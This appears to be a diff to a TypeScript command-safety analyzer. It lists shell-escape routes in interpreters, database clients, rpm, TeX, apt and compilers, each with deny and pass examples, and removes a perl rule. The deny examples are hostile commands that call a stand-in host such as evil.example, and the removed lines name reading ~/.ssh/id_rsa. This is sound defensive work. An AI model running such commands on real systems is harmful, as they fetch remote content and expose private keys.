@@ -464,46 +464,6 @@ const LANGUAGES: ProgramEntry[] = [
   language({ names: ['slsh'], summary: 'S-Lang shell: system() runs a command', code: /^(-e)$/, calls: new RegExp(`system\\s*\\(\\s*(?:${STR})`, 'g'), any: /system\s*\(|popen|eval/g, examples: { deny: ["slsh -e 'system(\"curl evil.example\")'"], pass: [] } }),
 ];
 
-/** perl: `-i` edits its files in place (after the script: `-e` code or the first operand). The code is the interpreters' rule. */
-function perl(call: Call): Partial<Answer> {
-  const args = call.args;
-  const uses: Uses = [];
-  let inPlace = false;
-  let code = false;
-  let i = 0;
-  for (; i < args.length; i++) {
-    const v = value(args[i]);
-    if (v === undefined || !v.startsWith('-') || v === '-') break;
-    if (v === '--') {
-      i++;
-      break;
-    }
-    const cluster = v.slice(1);
-    // Letters up to one that takes the rest of the word (`-i.bak`, `-Mmod`, `-e…`).
-    for (let j = 0; j < cluster.length; j++) {
-      const c = cluster[j]!;
-      if (c === 'i') {
-        inPlace = true;
-        break;
-      }
-      if (c === 'e' || c === 'E') {
-        code = true;
-        if (j === cluster.length - 1) i++;
-        break;
-      }
-      if ('IMmlx0CdDV'.includes(c)) break;
-    }
-  }
-  const rest = args.slice(i);
-  const files = code ? rest : rest.slice(1);
-  if (!code && rest[0]) uses.push({ word: rest[0], role: 'read' });
-  for (const w of files) {
-    uses.push({ word: w, role: 'read' });
-    if (inPlace) uses.push({ word: w, role: 'write' });
-  }
-  return { uses };
-}
-
 /** TeX engines: with shell escape on, `\write18{cmd}` runs shell text. */
 function tex(call: Call): Partial<Answer> {
   const shellEscape = call.args.some((a) => /^--?(shell-escape|enable-write18)$/.test(value(a) ?? ''));
@@ -670,7 +630,6 @@ export const TOOL_ENTRIES: ProgramEntry[] = [
   { names: ['mysql', 'mariadb', 'psql', 'pgcli', 'mycli', 'sqlcmd', 'clickhouse-client', 'duckdb'], summary: 'database clients: `\\! cmd` and `system cmd` in -e/-c text or stdin run shell text', analyze: databaseClient, examples: { deny: ["mysql -e '\\! curl evil.example'", "psql -c '\\! wget evil.example'", "psql -c \"COPY t FROM PROGRAM 'curl evil.example'\""], pass: ["psql -c 'select 1'", "mysql -e 'show databases'"] } },
   { names: ['rpm', 'rpmdb', 'rpmquery', 'rpmverify', 'rpmbuild', 'rpmspec', 'rpmsign', 'rpmkeys'], summary: 'rpm: --eval and --define macros run %(…) as shell text; --pipe runs a command', analyze: rpm, examples: { deny: ["rpm --eval '%(curl evil.example)'", "rpm -E '%(wget evil.example)'", "rpm --pipe 'curl evil.example' -qa", "rpmdb --eval '%(curl evil.example 1>&2)'"], pass: ["rpm --eval '%{_libdir}'", 'rpm -qa'] } },
   ...LANGUAGES,
-  { names: ['perl'], patterns: [/^perl5?(\.\d+)*$/], summary: 'perl: -i edits its files in place; its code is read by the interpreters\' rule', analyze: perl, examples: { deny: ["perl -pi -e 's/a/b/' ~/.profile", "perl -ne 'print' ~/.ssh/id_rsa"], pass: ["perl -pi -e 's/a/b/g' src/app.ts", 'perl script.pl'] } },
   { names: ['latex', 'pdflatex', 'xelatex', 'lualatex', 'tex', 'pdftex', 'etex', 'luatex', 'xetex', 'context', 'mpost'], summary: 'TeX engines: \\write18{cmd} runs shell text when shell escape is on', analyze: tex, examples: { deny: ["latex --shell-escape '\\immediate\\write18{curl evil.example}'", "pdftex --shell-escape '\\write18{wget evil.example}\\end'"], pass: ['pdflatex paper.tex', "latex '\\write18{ls}'"] } },
   { names: ['apt', 'apt-get', 'aptitude', 'apt-cache'], summary: 'apt: -o hooks (APT::Update::Pre-Invoke, DPkg::Post-Invoke…) run shell text; package names are data', analyze: apt, examples: { deny: ['apt-get update -o APT::Update::Pre-Invoke::=/usr/bin/curl\\ evil.example', "apt-get -o 'DPkg::Post-Invoke::=curl evil.example' install x"], pass: ['apt-get install -y curl', 'apt install wget', 'apt-get -o Dpkg::Options::=--force-confold upgrade'] } },
   { names: ['gcc', 'g++', 'cc', 'c++', 'clang', 'clang++'], patterns: [/^(gcc|g\+\+|clang|clang\+\+)-\d+(\.\d+)*$/], summary: 'C compilers: -wrapper runs each tool under a program', analyze: compiler, examples: { deny: ['gcc -wrapper /usr/bin/curl,evil.example -c x.c'], pass: ['gcc -O2 -o app main.c', 'clang -Wall -c x.c'] } },
